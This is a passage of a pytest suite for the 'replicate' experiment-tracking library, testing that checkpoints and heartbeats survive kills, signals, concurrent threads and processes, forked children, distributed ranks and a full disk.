    assert [item.metrics for item in experiment.checkpoints] == [{"n": n, "list": [1, None]} for n in range(count)]
    for number, item in enumerate(experiment.checkpoints if kind != "metrics" else ()):
        item.checkout("out%d" % number, quiet=True)
        assert tree("out%d" % number) == (
            {"model/deep/%d" % part: b"%d %d " % (number, part) * 5000 for part in range(30)} if kind == "directory"
            else {"model": (project / ("copy%d" % number)).read_bytes()})
    assert run("ls").returncode == 0
    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]] == ids
    assert names_in(repo / "journals") == []


def test_kill_9_at_any_moment_loses_nothing_that_was_returned(repo, training):
    for number in range(6):
        script = training("""
            open("model", "wb").write(b"abcdefgh" * 50000)
            while True:
                print(experiment.checkpoint(metrics={"x": 1}, quiet=True).id, flush=True)
                print(experiment.checkpoint(path="model", quiet=True).id, flush=True)
            """, prefix=TRAINING)
        for _ in range(20 + 37 * number):
            script.expect("")
        script.kill()
    experiments = replicate.experiments.list()
    for item in experiments:
        for checkpoint in item.checkpoints[:6] + item.checkpoints[-3:]:
            assert not checkpoint.path or checkpoint.open("model").read() == b"abcdefgh" * 50000
    returned = sum(len(item.checkpoints) for item in experiments)
    assert returned >= sum(20 + 37 * number for number in range(6))
    assert run("ls").returncode == 0 and names_in(repo / "journals") == []
    assert sum(len(item["checkpoints"]) for item in stored_documents(repo)) == returned


def test_processes_that_record_into_one_experiment_lose_nothing(repo, training):
    write_repository(repo, experiment_document(A))
    scripts = [training("""
        experiment = replicate.experiments.get("1e")
        for number in range(300):
            experiment.checkpoint(metrics={"who": int(sys.argv[1]), "n": number}, quiet=True)
            if number % 50 == 0:
                experiment.stop()
        """, number) for number in range(4)]
    assert [(script.end(), script.rest) for script in scripts] == [("", [])] * 4
    stored = [(item["metrics"]["who"], item["metrics"]["n"]) for item in stored_documents(repo)[0]["checkpoints"]]
    assert sorted(stored) == [(who, number) for who in range(4) for number in range(300)]
    assert leftovers(repo) == []


def test_recording_while_others_list_and_remove(repo, training):
    """A checkpoint that is removed while its experiment is recorded is not put back, and no other is lost."""
    script = training("""
        open("model", "wb").write(b"text " * 200000)
        for line in sys.stdin:
            print(experiment.checkpoint(path="model", metrics={"n": int(line)}, quiet=True).id, flush=True)
        """, prefix=TRAINING)
    kept = []
    for number in range(12):
        kept.append(script.go(number).expect(""))
        if number in (1, 4, 7):
            assert run("rm", "-f", kept.pop(0 if number == 4 else -1)).returncode == 0
        assert list(listed(repo).values()) == [kept]
    assert script.end() == "" and script.rest == []
    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]] == kept
    assert names_in(repo / "checkpoints") == sorted(item + ".tar.gz" for item in kept)
    assert names_in(repo / "journals") == names_in(repo / "tmp") == []


@pytest.mark.parametrize("moment", ["at rest", "journal open", "before stop"])
def test_an_experiment_that_is_removed_while_it_is_recorded_stays_removed(project, repo, training, moment):
    (project / "model").write_bytes(b"text " * 2000000)
    script = training("""
        experiment = replicate.init(path="model", quiet=True)
        experiment.checkpoint(path="model", metrics={"n": 1}, quiet=True)
        print(experiment.id, flush=True)
        for line in sys.stdin:
            for number in range(int(line)):
                experiment.checkpoint(path="model" if number % 5 == 0 else None, metrics={"n": number}, quiet=True)
            print("done", flush=True)
        experiment.checkpoint(metrics={"n": 1}, quiet=True)
        """)
    experiment_id = script.expect("")
    if moment == "journal open":
        script.go(3).expect("done")
    elif moment == "at rest":
        until(lambda: len(stored_documents(repo)[0]["checkpoints"]) == 1 and names_in(repo / "tmp") == [
            experiment_id + ".live.lock"])
    assert run("rm", "-f", experiment_id).returncode == 0
    if moment != "before stop":
        for _ in range(2):
            script.go(20).expect("done")
    err = script.end()
    assert len(err.splitlines()) == 1 and "was removed" in err and experiment_id[:7] in err
    assert list(tree(repo)) == ["repository.json"]


def test_a_run_is_locked_until_its_heartbeat_is_gone(repo, monkeypatch):
    """Or it would remove the heartbeat of the process that resumes it."""
    experiment = replicate.init(quiet=True)
    lock = replicate.live_lock(replicate.DiskStorage(str(repo)), experiment.id)
    recorder, delete, locked = experiment.project.recorders.find(experiment), replicate.DiskStorage.delete, []

    def delete_noting(storage, keys):
        if replicate.heartbeat_key(experiment.id) in keys:
            locked.append(not lock.acquire(wait=False))
        delete(storage, keys)

    monkeypatch.setattr(replicate.DiskStorage, "delete", delete_noting)
    monkeypatch.setattr(recorder.worker, "wait", recorder.worker.ended.wait)
    experiment.stop()
    assert locked == [True] and names_in(repo / "tmp") == [] and lock.acquire(wait=False)
    lock.release()


@pytest.mark.parametrize("by_itself", [True, False])
def test_a_removed_experiment_is_noticed_by_the_next_heartbeat(repo, monkeypatch, capsys, by_itself):
    """Which says so once; checkpoints go on and write nothing."""
    monkeypatch.setattr(replicate, "HEARTBEAT_INTERVAL", 0.05)
    experiment = replicate.init(quiet=True)
    if by_itself:
        experiment.checkpoint(metrics={"n": 1}, quiet=True)
        experiment.delete()
    else:
        assert run("rm", "-f", experiment.id).returncode == 0
        until(lambda: "was removed" in capsys.readouterr().err)
        until(lambda: list(tree(repo)) == ["repository.json"])
    for number in range(5):
        assert experiment.checkpoint(metrics={"n": number}, quiet=True).metrics == {"n": number}
    experiment.stop()
    assert list(tree(repo)) == ["repository.json"]
    assert capsys.readouterr().err.count("\n") == by_itself


def test_a_checkpoint_that_is_compressed_when_its_experiment_is_found_removed_leaves_nothing(
        project, repo, monkeypatch, capsys):
    """The worker stops compressing at once, and stop() waits for that."""
    fold, compressed, noticed = replicate.Repository.fold, [], threading.Event()

    def fold_later(self, *args):
        until(lambda: [name for name in names_in(repo / "tmp") if not name.endswith(".lock")])
        try:
            fold(self, *args)
        finally:
            noticed.set()

    def slowly(data):
        if threading.current_thread() is threading.main_thread():  # the end of the archive, in checkpoint()
            return gzip.compress(data)
        noticed.wait(30)
        time.sleep(0.1)
        compressed.append(len(data))
        return gzip.compress(data)

    monkeypatch.setattr(replicate.Repository, "fold", fold_later)
    monkeypatch.setattr(replicate, "gzip_member", slowly)
    (project / "model").write_bytes(b"text " * (10 << 20))
    experiment = replicate.init(quiet=True)
    assert run("rm", "-f", experiment.id).returncode == 0
    experiment.checkpoint(path="model", quiet=True)
    until(lambda: "was removed" in capsys.readouterr().err)
    experiment.stop()
    assert list(tree(repo)) == ["repository.json"]
    assert sum(compressed) < (10 << 20) * 5 / 2


def test_the_heartbeat(project, repo, monkeypatch):
    monkeypatch.setattr(replicate, "HEARTBEAT_INTERVAL", 0.05)
    experiment = replicate.init(quiet=True)
    path = repo / "metadata/heartbeats" / (experiment.id + ".json")
    first = json.loads(path.read_text())
    assert set(first) == {"experiment_id", "last_heartbeat"} and first["experiment_id"] == experiment.id
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,9})?Z", first["last_heartbeat"])
    assert -1 <= time.time() - replicate.parse_time(first["last_heartbeat"]).timestamp() < 25
    until(lambda: json.loads(path.read_text())["last_heartbeat"] > first["last_heartbeat"])
    assert experiment.is_running() and experiment.status == "running" and run("ps", "-q").stdout.split() == [experiment.id]
    experiment.stop()
    assert not path.exists() and not experiment.is_running() and run("ps", "-q").stdout == ""
    assert experiment.status == replicate.experiments.get(experiment.id).status == "completed"
    experiment.stop()


def test_stop_returns_when_all_is_on_the_disk_itself_and_waits_for_that_last(project, repo, monkeypatch):
    (project / "model").write_bytes(b"text " * 500000)
    experiment = replicate.init(path="model", quiet=True)
    checkpoint = experiment.checkpoint(path="model", metrics={"x": 1}, quiet=True)
    synced, fsync = {}, os.fsync

    def noted(descriptor):
        path = Path(os.readlink("/proc/self/fd/%d" % descriptor))
        synced[str(path.relative_to(repo))] = len(path.read_bytes()) if path.is_file() else len(list(path.iterdir()))
        assert not experiment.is_running() and stored_documents(repo)[0]["checkpoints"]
        fsync(descriptor)

    monkeypatch.setattr(os, "fsync", noted)
    experiment.stop()
    files = ["metadata/experiments/%s.json" % experiment.id, "experiments/%s.tar.gz" % experiment.id,
             "checkpoints/%s.tar.gz" % checkpoint.id]
    assert synced == {**{name: (repo / name).stat().st_size for name in files},
                      **{str(Path(name).parent): 1 for name in files}}


def test_disable_heartbeat(repo, monkeypatch):
    monkeypatch.setattr(replicate, "HEARTBEAT_INTERVAL", 0.02)
    experiment = replicate.init(disable_heartbeat=True, quiet=True)
    for count in (1, 2):
        experiment.checkpoint(metrics={"x": count}, quiet=True)
        until(lambda: len(stored_documents(repo)[0]["checkpoints"]) == count)
        assert names_in(repo / "metadata/heartbeats") == [] and not experiment.is_running()
        experiment.stop()


@pytest.fixture
def packages(tmp_path, monkeypatch):
    """Distributions of many kinds are installed, for programs that start afterwards."""
    for name, files, metadata in [
            ("Test_Equal.Name-1.0", ["test_equal_name/__init__.py"], {}),
            ("test_listed-2.0", ["listed_inside.py"], {"top_level.txt": "listed_inside\n_other\n", "RECORD": "other.py,,\n"}),
            ("test_recorded-3.0", ["recorded_single.py"], {"RECORD": "../../bin/tool,,\nrecorded_single.py,sha256=x,1\n"}),
            ("test_folder-4.0", ["recorded_folder/part.py"], {"top_level.txt": "", "RECORD": "recorded_folder/part.py,,\n"}),
            ("test_unused-5.0", ["unused.py"], {"RECORD": "unused.py,,\n"}), ("test_bare-6.0", [], {}),
            ("test_odd-7.0", [], {"RECORD": "\udcff/\0\n"})]:
        folder = tmp_path / "site" / (name + ".dist-info")
        folder.mkdir(parents=True)
        fill(folder.parent, dict.fromkeys(files, b""))
        fill(folder, {file: text.encode("utf-8", "replace") for file, text in metadata.items()})
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(filter(None, [str(tmp_path / "site"), os.environ.get("PYTHONPATH")])))


@pytest.mark.parametrize("end", ["experiment.stop()", "pass", "sys.exit(3)", "raise ValueError", "os.kill(os.getpid(), 15)",
                                 "os.kill(os.getpid(), 9)"])
def test_the_packages_that_were_imported_are_recorded_at_the_end_unless_it_is_killed(repo, packages, end):
    done = run_script("""
        import os, sys, replicate, test_equal_name
        experiment = replicate.init(quiet=True, disable_heartbeat=True)
        experiment.checkpoint(metrics={"loss": 1}, quiet=True)
        import listed_inside, recorded_single, recorded_folder.part
        sys.path += [None, 5.5, b"x", "/nowhere" + chr(0)]
        sys.modules[7] = sys.modules["test_bare"] = None
        print("ready")
        exec(sys.argv[1])
        """, end, check=False)
    assert done.stdout == "ready\n" or end.startswith("os.kill")
    assert run("ls").returncode == 0  # which folds the journal of the killed one
    document, = stored_documents(repo)
    assert len(document["checkpoints"]) == 1
    names = document.get("imported_packages")
    if end == "os.kill(os.getpid(), 9)":
        assert names is None
    else:
        assert [name for name in names if name.startswith("test-")] == [
            "test-equal-name", "test-folder", "test-listed", "test-recorded"]
        assert names == sorted(set(names)) and set(names) <= set(document["python_packages"])


@pytest.mark.parametrize("before, after", [(["test-gone", "test-folder"], ["test-folder", "test-gone", "test-listed"]),
                                           ("nonsense", ["test-listed"]), ([None, {}], ["None", "test-listed", "{}"])])
def test_a_resumed_experiment_adds_to_its_imported_packages(repo, packages, before, after):
    write_repository(repo, experiment_document(hex_id("1e"), imported_packages=before, color="red"))
    run_script("import listed_inside, replicate\nreplicate.experiments.get('1e').checkpoint(metrics={'loss': 1}, quiet=True)")
    document, = stored_documents(repo)
    assert [str(name) for name in document["imported_packages"] if str(name) in after] == after
    assert document["color"] == "red" and len(document["checkpoints"]) == 1


def test_init_again_stops_the_earlier_experiment_and_create_does_not(repo):
    first = replicate.init(params={"n": 1}, quiet=True)
    first.checkpoint(metrics={"x": 1}, quiet=True)
    first.checkpoint(metrics={"x": 2}, quiet=True)
    second = replicate.init(params={"n": 2}, quiet=True)
    assert not first.is_running() and second.is_running()
    assert [len(item["checkpoints"]) for item in stored_documents(repo) if item["id"] == first.id] == [2]
    third = replicate.Project().experiments.create(params={"n": 3}, quiet=True)
    assert second.is_running() and third.is_running()
    first.checkpoint(metrics={"x": 3}, quiet=True)
    assert first.is_running() and second.is_running()
    assert first.checkpoints[-1].step == 2
    replicate.init(quiet=True)
    assert not first.is_running() and not second.is_running() and not third.is_running()
    assert [len(item["checkpoints"]) for item in stored_documents(repo) if item["id"] == first.id] == [3]


PAUSES = "while True: time.sleep(0.1)"  # of a long one Python does not always wake up when there are other threads


@pytest.mark.parametrize("count, path, work", [
    (3, "", PAUSES), (3, "", "while True: pass"), (3, "model", PAUSES), (303, "", "while True: save()")],
    ids=["sleep", "busy", "compressing", "inside checkpoint"])
def test_sigterm_flushes_marks_stopped_and_kills(project, repo, training, count, path, work):
    (project / "model").write_bytes(b"0123456789abcdef" * (2 << 20))
    script = training(r"""
        def save():
            os.write(1, experiment.checkpoint(path=sys.argv[2] or None, quiet=True).id.encode() + b"\n")
        for _ in range(int(sys.argv[1])):
            save()
        os.write(1, b"ready\n")
        exec(sys.argv[3])
        """, count, path, work, prefix=TRAINING)
    ids = [script.expect("") for _ in range(count)]
    assert script.terminate() == ""
    ids += script.rest
    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]][:len(ids)] == ids
    assert names_in(repo / "metadata/heartbeats") == names_in(repo / "journals") == []


@pytest.mark.parametrize("first, handler, code", [
    ("", "sys.exit(3)", 3), ("", "raise KeyError(number)", 1), ("", "", 0),
    ("replicate.init(quiet=True)", "before(number, frame)", -signal.SIGTERM)])  # around the one of the first init()
def test_sigterm_is_handed_to_the_handler_that_was_there(repo, training, first, handler, code):
    script = training(r"""
        exec(sys.argv[1])
        before = signal.getsignal(signal.SIGTERM)
        def mine(number, frame):
            os.write(1, b"mine %d %r %r\n" % (number, frame is not None, os.listdir("repo/metadata/heartbeats")))
            exec(sys.argv[2])
            handled.append(number)
        handled = []
        signal.signal(signal.SIGTERM, mine)
        experiment = replicate.init(quiet=True)
        experiment.checkpoint(metrics={"n": 1}, quiet=True)
        experiment.checkpoint(metrics={"n": 2}, quiet=True)
        print("ready", flush=True)
        while not handled:
            time.sleep(0.01)
        experiment.checkpoint(metrics={"n": 3}, quiet=True)
        """, first, handler)
    script.terminate(code)
    assert script.rest == ["mine 15 True []"]
    assert sum(len(item["checkpoints"]) for item in stored_documents(repo)) == (3 if code == 0 else 2)
    assert names_in(repo / "metadata/heartbeats") == []


def test_a_ctrl_c_on_the_way_into_recording_code_leaves_sigterm_working(repo, training):
    """It may fall between putting the signal off and the block that ends this."""
    script = training("""
        def interrupted():
            replicate.termination.__enter__()
            raise KeyboardInterrupt
        for number in range(2):
            try:
                interrupted()
            except KeyboardInterrupt:
                experiment.checkpoint(metrics={"n": number}, quiet=True)
        print("ready", flush=True)
        time.sleep(60)
        """, prefix=TRAINING)
    assert script.terminate() == "" and script.rest == []
    assert len(stored_documents(repo)[0]["checkpoints"]) == 2 and names_in(repo / "metadata/heartbeats") == []


def test_a_ctrl_c_anywhere_in_checkpoint_leaves_no_lock_behind(repo):
    """A signal is handled where a Python function starts, or where it ends."""
    done = train("""
        def trace(frame, event, argument):
            global left
            left -= event != "line"
            if left == 0:
                raise KeyboardInterrupt
            return trace
        total = left = 0
        while left <= 0:
            total += 1
            left = total
            sys.settrace(trace)
            try:
                experiment.checkpoint(metrics={"n": total}, quiet=True)
            except KeyboardInterrupt:
                pass
            sys.settrace(None)
        changed = experiment.project.recorders.find(experiment).changed
        other = threading.Thread(target=lambda: print(changed.acquire(timeout=5)) or changed.release())
        other.start()
        other.join()
        """)
    assert done.stdout == "True\n", done.stderr


@pytest.mark.parametrize("place", ["replicate.Journal.append", "replicate.save_archive"])
@pytest.mark.parametrize("handle, code", [
    ("experiment.checkpoint(metrics={'n': 5}, quiet=True)", 0), ("experiment.stop(); sys.exit(3)", 3),
    ("replicate.init(quiet=True); sys.exit(3)", 3)])
def test_a_signal_handler_may_use_the_experiment_while_a_checkpoint_is_made(project, repo, place, handle, code):
    """As scripts do that save once more when their scheduler warns them."""
    (project / "model").write_bytes(b"weights")
    done = run_script("""
        import os, signal, sys, replicate
        replicate.TERMINATION_SECONDS = replicate.JOIN_SECONDS = 0.2
        exec("original = " + sys.argv[1])
        def interrupted(*arguments):
            done = original(*arguments)
            exec(sys.argv[1] + " = original")
            os.kill(os.getpid(), signal.SIGUSR1)
            return done
        signal.signal(signal.SIGUSR1, lambda number, frame: exec(sys.argv[2], globals()))
        exec(sys.argv[1] + " = interrupted")
        experiment = replicate.init(quiet=True)
        for number in range(2):
            experiment.checkpoint(path="model", metrics={"n": number}, quiet=True)
        """, place, handle, timeout=30, check=False)
    assert (done.returncode, done.stderr, names_in(repo / "journals")) == (code, "", [])
    stored = sum((item["checkpoints"] for item in stored_documents(repo)), [])
    assert {item["metrics"]["n"] for item in stored} == ({0, 1, 5} if code == 0 else {0} if "append" in place else set())
    assert {item["outcome"]["status"] for item in stored_documents(repo)} <= {"completed", "failed"}


def in_sixteen_threads(work):
    """Call work() in 16 threads at once; what fails in one of them fails."""
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        for future in [pool.submit(work) for _ in range(16)]:
            future.result()


def test_threads_get_steps_and_times_in_order_and_lose_nothing(project, repo):
    (project / "model").write_bytes(b"weights")
    experiment = replicate.init(quiet=True)

    def work():
        for number in range(100):
            experiment.checkpoint(path="model" if number % 25 == 0 else None, metrics={"n": number}, quiet=True)

    with contextlib.ExitStack() as stack:
        stack.callback(sys.setswitchinterval, sys.getswitchinterval())
        sys.setswitchinterval(1e-5)
        in_sixteen_threads(work)
    experiment.stop()
    assert [item.step for item in experiment.checkpoints] == list(range(1600))
    stored = stored_documents(repo)[0]["checkpoints"]
    plain = [item["step"] for item in stored if item["path"] is None]
    assert plain == sorted(plain) and len(plain) == 1536  # those with files follow when the files are saved
    stored.sort(key=lambda item: item["step"])
    assert [item["step"] for item in stored] == list(range(1600))
    assert sorted(item["metrics"]["n"] for item in stored) == sorted(list(range(100)) * 16)
    created = [item["created"] for item in stored]
    assert created == sorted(created) and len(set(created)) == 1600 and len(names_in(repo / "checkpoints")) == 64


def test_threads_share_one_recorder_of_an_experiment(repo, monkeypatch):
    write_repository(repo, experiment_document(A))
    made, start = [], replicate.Recorder.start
    monkeypatch.setattr(replicate.Recorder, "start", lambda self, *more: made.append(self) or start(self, *more))

    def work():
        for _ in range(20):
            experiment = replicate.Project().experiments.get("1e")
            assert experiment.checkpoint(metrics={"x": 1}, quiet=True) in experiment.checkpoints

    in_sixteen_threads(work)
    assert len(made) == 1
    replicate.stop_all()
    assert [item["step"] for item in stored_documents(repo)[0]["checkpoints"]] == list(range(320))
    assert names_in(repo / "metadata/heartbeats") == names_in(repo / "journals") == []


@pytest.mark.parametrize("daemon, end", [(False, "signal"), (True, "signal"), (True, "exit")])
def test_nothing_is_resumed_when_the_process_ends(repo, training, daemon, end):
    script = training("""
        def work():
            while True:
                experiment.checkpoint(metrics={"x": 1}, quiet=True)
                replicate.experiments.get(experiment.id).checkpoint(metrics={"x": 2}, quiet=True)
        for _ in range(16):
            threading.Thread(target=work, daemon=sys.argv[1] == "True").start()
        while len(experiment.checkpoints) < 64:
            time.sleep(0.01)
        print("ready", flush=True)
        sys.stdin.readline()
        """, daemon, prefix=TRAINING)
    if end == "signal":
        assert script.terminate() == ""
    else:
        script.expect("ready")
        assert script.end() == ""
    assert script.rest == []
    # a thread may have just locked the document when the process ends; the next command removes such a file
    assert [name for name in leftovers(repo) if not name.endswith(".json.lock")] == [] and stored_documents(repo)[0]["checkpoints"]


@pytest.mark.parametrize("registered, steps, messages", [("after", [0, 1], 0), ("before", [0], 1)])
def test_a_checkpoint_after_the_end_is_said_not_to_be_recorded(project, repo, registered, steps, messages):
    done = run_script("""
        import atexit, replicate, sys
        def last():
            experiment.checkpoint(quiet=True)
        if sys.argv[1] == "before":
            atexit.register(last)
        experiment = replicate.init(quiet=True)
        if sys.argv[1] == "after":
            atexit.register(last)
        experiment.checkpoint(quiet=True)
        """, registered, cwd=str(project))
    assert [item["step"] for item in stored_documents(repo)[0]["checkpoints"]] == steps
    assert done.stderr.count("not recorded: experiment") == len(done.stderr.splitlines()) == messages


@pytest.mark.parametrize("end", ["os._exit(0)", "sys.exit(0)", "raise ValueError", "experiment.stop()",
                                 "replicate.stop_all()", "os.kill(os.getpid(), 15)"])
def test_a_forked_child_neither_records_nor_stops(repo, end):
    done = train("""
        experiment.checkpoint(metrics={"n": 1}, quiet=True)
        child = os.fork()
        if not child:
            for number in range(3):
                assert experiment.checkpoint(path="no", metrics={"child": number}, quiet=True).metrics == {"child": number}
            with experiment:
                pass
            exec(sys.argv[1])
            os._exit(0)
        status = os.waitpid(child, 0)[1]
        print(experiment.is_running(), os.listdir("repo/metadata/heartbeats") == [experiment.id + ".json"])
        experiment.checkpoint(metrics={"n": 2}, quiet=True)
        print(status, flush=True)
        """, end)
    status = {"raise ValueError": 256, "os.kill(os.getpid(), 15)": 15}.get(end, 0)
    assert done.stdout == "True True\n%d\n" % status, done.stderr
    assert [item["metrics"] for item in stored_documents(repo)[0]["checkpoints"]] == [{"n": 1}, {"n": 2}]
    assert leftovers(repo) == []


def test_a_forked_child_that_records_and_forks_still_gets_sigterm(repo):
    done = train("""
        child = os.fork()
        if not child:
            own = replicate.init(quiet=True)
            if not os.fork():
                os._exit(0)
            os.wait()
            os.kill(os.getpid(), 15)
            os._exit(0)
        print(os.waitpid(child, 0)[1])
        """)
    assert done.stdout == "15\n", done.stderr
    assert sorted(item["outcome"]["status"] for item in stored_documents(repo)) == ["completed", "terminated"]


def test_multiprocessing_children_neither_record_nor_stop_and_die_when_they_are_terminated(repo):
    done = train("""
        import multiprocessing
        def load(number):
            experiment.checkpoint(metrics={"child": number}, quiet=True)
            return number * number
        def hang():
            experiment.stop()
            started.set()
            time.sleep(60)
        def terminated(target, until):
            worker = context.Process(target=target)
            worker.start()
            until()
            worker.terminate()
            worker.join(20)
            if worker.exitcode is None:
                worker.kill()
            return worker.exitcode
        context = multiprocessing.get_context("fork")
        started = context.Event()
        with context.Pool(3) as pool:
            print(pool.map(load, range(10)))
        print(terminated(hang, started.wait), experiment.is_running())
        print({terminated(lambda: time.sleep(60), lambda: None) for _ in range(20)})  # perhaps while they are forked
        experiment.checkpoint(metrics={"n": 1}, quiet=True)
        """)
    assert done.stdout == "%s\n-15 True\n{-15}\n" % [n * n for n in range(10)], done.stderr
    assert [item["metrics"] for item in stored_documents(repo)[0]["checkpoints"]] == [{"n": 1}]
    assert names_in(repo / "metadata/heartbeats") == []


@pytest.mark.parametrize("method", ["fork", "spawn", "forkserver"])
def test_runs_in_children_of_multiprocessing_end_like_others(project, repo, method):
    (project / "train.py").write_text(textwrap.dedent("""
        import multiprocessing, sys, replicate
        def work(source):
            for number in range(2):
                experiment = replicate.init(params={"source": source}, quiet=True)
            experiment.checkpoint(metrics={"n": number}, quiet=True)
            exec(source)
        if __name__ == "__main__":
            for source in ("pass", "sys.exit()", "sys.exit(3)", "raise KeyError(5)"):
                child = multiprocessing.get_context(sys.argv[1]).Process(target=work, args=(source,))
                child.start()
                child.join()
        """))
    subprocess.run([sys.executable, "train.py", method], stderr=subprocess.DEVNULL, timeout=60)
    ends = {item["params"]["source"]: item["outcome"] for item in stored_documents(repo) if item["checkpoints"]}
    error = ends.pop("raise KeyError(5)").get("error")
    assert error == "KeyError: 5" or sys.version_info >= (3, 13)  # which has forgotten the exception by then
    assert {source: (end["status"], end.get("error")) for source, end in ends.items()} == {
        "pass": ("completed", None), "sys.exit()": ("completed", None), "sys.exit(3)": ("failed", "exit code 3")}
    assert len(stored_documents(repo)) == 8 and leftovers(repo) == []


@pytest.mark.parametrize("method", ["fork", "spawn", "forkserver"])
def test_a_script_that_starts_an_experiment_when_it_is_imported_starts_one(project, repo, method):
    (project / "train.py").write_text(textwrap.dedent("""
        import multiprocessing, sys, replicate
        experiment = replicate.init(quiet=True)
        def load(number):
            return experiment.checkpoint(metrics={"n": number}, quiet=True).metrics["n"]
        if __name__ == "__main__":
            with multiprocessing.get_context(sys.argv[1]).Pool(1) as pool:
                print(pool.map(load, range(3)))
        """))
    done = subprocess.run([sys.executable, "train.py", method], capture_output=True, text=True, timeout=60)
    assert done.stdout == "[0, 1, 2]\n" and done.stderr.count("are not recorded") == len(done.stderr.splitlines()) == 1
    (document,) = stored_documents(repo)
    assert document["checkpoints"] == [] and document["outcome"]["status"] == "completed"


def test_a_copy_of_an_experiment_records_and_a_pickled_one_only_reads(project, repo, capsys, monkeypatch):
    monkeypatch.setattr(replicate, "_announced", set())
    (project / "model").write_bytes(b"weights")
    experiment = replicate.init(quiet=True)
    experiment.checkpoint(path="model", metrics={"n": 0}, quiet=True)
    copied, pickled = copy.deepcopy(experiment), pickle.loads(pickle.dumps(experiment))
    copied.checkpoint(metrics={"n": 1}, quiet=True)
    assert pickled.latest().open("model").read() == b"weights" and capsys.readouterr().err == ""
    assert [pickled.checkpoint(metrics={"n": 2}, quiet=True).step for _ in range(2)] == [1, 2]
    assert capsys.readouterr().err.count("are not recorded") == 1
    experiment.stop()
    assert [item["metrics"] for item in stored_documents(repo)[0]["checkpoints"]] == [{"n": 0}, {"n": 1}]


@pytest.mark.parametrize("variables, reason", [
    ("", ""), ("RANK=0 WORLD_SIZE=8", ""), ("RANK=0 LOCAL_RANK=0 SLURM_PROCID=0 WORLD_SIZE=2 SLURM_NTASKS=2", ""),
    ("RANK= WORLD_SIZE=8", ""), ("RANK=x WORLD_SIZE=8", ""), ("RANK=² WORLD_SIZE=²", ""),
    ("RANK=1", ""), ("SLURM_PROCID=5", ""), ("RANK=3 WORLD_SIZE=1", ""), ("LOCAL_RANK=2 WORLD_SIZE=x", ""),
    ("SLURM_PROCID=1 WORLD_SIZE=4", ""), ("RANK=1 WORLD_SIZE=2 REPLICATE_ALL_RANKS=1", ""),
    ("RANK=1 WORLD_SIZE=2 REPLICATE_ALL_RANKS=0", "RANK=1"), ("RANK=1 WORLD_SIZE=2", "RANK=1"),
    ("LOCAL_RANK=3 LOCAL_WORLD_SIZE=4", "LOCAL_RANK=3"), ("LOCAL_RANK=3 WORLD_SIZE=4", "LOCAL_RANK=3"),
    ("SLURM_PROCID=12 SLURM_NTASKS=16", "SLURM_PROCID=12"), ("SLURM_PROCID=12 SLURM_STEP_NUM_TASKS=16", "SLURM_PROCID=12"),
    ("OMPI_COMM_WORLD_RANK=1 OMPI_COMM_WORLD_SIZE=2", "OMPI_COMM_WORLD_RANK=1"),
    ("RANK=8 LOCAL_RANK=0 WORLD_SIZE=16 LOCAL_WORLD_SIZE=8", "RANK=8")])
def test_only_rank_0_of_a_job_records_and_the_others_say_so_once(project, repo, monkeypatch, capsys, variables, reason):
    (project / "model").write_text("weights")
    monkeypatch.setattr(replicate, "_announced", set())
    if reason:
        monkeypatch.setattr(replicate, "imported_packages", lambda: pytest.fail("it looked for imported packages"))
    for setting in variables.split():
        monkeypatch.setenv(*setting.split("="))
    with replicate.init(path=".", params=argparse.Namespace(x=1), quiet=True) as experiment:
        first = experiment.checkpoint(path="model", metrics={"loss": 2.0}, primary_metric=("loss", "minimize"), quiet=True)
        second = experiment.checkpoint(metrics={"loss": 1.0}, quiet=True)
        assert (first.step, second.step, second.metrics) == (0, 1, {"loss": 1.0})
        assert experiment.best() is second and experiment.latest() is second
        assert experiment.checkpoints.metrics["loss"] == [2.0, 1.0] and experiment.params == {"x": 1}
        assert experiment.is_running() is not bool(reason)
        experiment._repr_html_()
        experiment.refresh()
    assert (repo / "repository.json").exists() is not bool(reason)
    if reason:
        with pytest.raises(replicate.DoesNotExist):
            first.open("model")
        experiment.delete()
        assert replicate.Project().experiments.create(params={"y": 1}).checkpoint(step=4).step == 4
        assert replicate.init(params=5).params == {} and not repo.exists()
    err = capsys.readouterr().err
    assert err.startswith("═══╡ %s: " % reason) and "REPLICATE_ALL_RANKS=1" in err if reason else err == ""
    assert len(err.splitlines()) == bool(reason)


LIMITS_FILE_SIZES = """
    import os, resource, signal, sys, replicate
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    def limit(size):
        resource.setrlimit(resource.RLIMIT_FSIZE, (size, resource.RLIM_INFINITY))
    """


@pytest.mark.parametrize("then", ["room and a checkpoint", "room and stop", "no room"])
def test_a_full_disk(small_disk, then):
    done = run_script("""
    import json, os, sys, time, replicate
    def fill(size=1 << 16):
        with open("filler", "ab", 0) as file:
            while size:
                try:
                    file.write(b"x" * size)
                except OSError:
                    size //= 2
    open("weights", "wb").write(os.urandom(100000))
    experiment = replicate.init(params={"x": 1}, quiet=True)
    experiment.checkpoint(path="weights", metrics={"n": 0}, quiet=True)
    while not json.load(open("repo/metadata/experiments/%s.json" % experiment.id))["checkpoints"]:
        time.sleep(0.01)
    fill()
    print("full", file=sys.stderr, flush=True)
    made = [experiment.checkpoint(path="weights" if number == 1 else None, metrics={"n": number}, quiet=True)
            for number in range(1, 200)]
    assert [item.metrics["n"] for item in made] == list(range(1, 200))
    found = replicate.experiments.get(experiment.id)
    assert found.checkpoints[0].metrics == {"n": 0}
    found.checkpoints[0].open("weights").read() == open("weights", "rb").read() or sys.exit("damaged")
    print("listed", file=sys.stderr, flush=True)
    if sys.argv[1] != "no room":
        os.unlink("filler")
    if sys.argv[1] == "room and a checkpoint":
        experiment.checkpoint(path="weights", metrics={"n": 200}, quiet=True)
    experiment.stop()
    print("stopped", file=sys.stderr, flush=True)
    """, then, cwd=str(small_disk))
    before, during, stopping, after = re.fullmatch(r"(?s)(.*)full\n(.*)listed\n(.*)stopped\n(.*)", done.stderr).groups()
    assert len(before.splitlines()) == done.stderr.count("is nearly full") == before.count("is nearly full") == 1
    assert "Traceback" not in done.stderr
    assert "weights" in during.splitlines()[0] or "No space left" in during.splitlines()[0]
    assert all("No space left" in line for line in messages_of(during))
    document, = stored_documents(small_disk / "repo")
    numbers = [item["metrics"]["n"] for item in document["checkpoints"]]
    if then == "no room":
        assert numbers[0] == 0 and listed(small_disk / "repo")[document["id"]][0] == document["checkpoints"][0]["id"]
